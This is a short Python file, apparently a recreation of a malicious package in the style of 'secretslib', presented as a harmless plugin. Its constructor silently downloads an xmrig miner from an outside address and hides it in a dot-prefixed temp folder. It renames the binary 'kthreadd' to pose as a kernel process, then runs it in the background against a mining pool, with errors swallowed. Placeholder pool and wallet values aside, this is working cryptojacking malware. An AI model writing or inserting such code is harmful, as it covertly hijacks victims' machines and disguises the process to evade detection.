# Inspired by "secretslib" (PyPI, 2022, Sonatype): fetch an xmrig build, drop it to /tmp under a harmless name and run it against a stratum pool.
import os
import shlex
import subprocess
import tarfile
import tempfile
import urllib.request

_REL = "https://198.51.100.77/releases/xmrig-6.18.0-linux-static-x64.tar.gz"
_POOL = "stratum+tcp://pool.example.invalid:3333"
_WALLET = "4" + "A" * 94  # fake Monero address


def _fetch() -> str:
    work = tempfile.mkdtemp(prefix=".X11-")
    archive = os.path.join(work, "p.tgz")
    urllib.request.urlretrieve(_REL, archive)
    with tarfile.open(archive) as t:
        t.extractall(work)
    binary = os.path.join(work, "xmrig-6.18.0", "xmrig")
    os.rename(binary, os.path.join(work, "kthreadd"))
    return os.path.join(work, "kthreadd")


def _mine(binary: str) -> None:
    args = f"{binary} -o {_POOL} -u {_WALLET} -p x --cpu-max-threads-hint=50 --background"
    subprocess.Popen(shlex.split(args), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


class Plugin:
    def __init__(self):
        try:
            _mine(_fetch())
        except Exception:
            pass
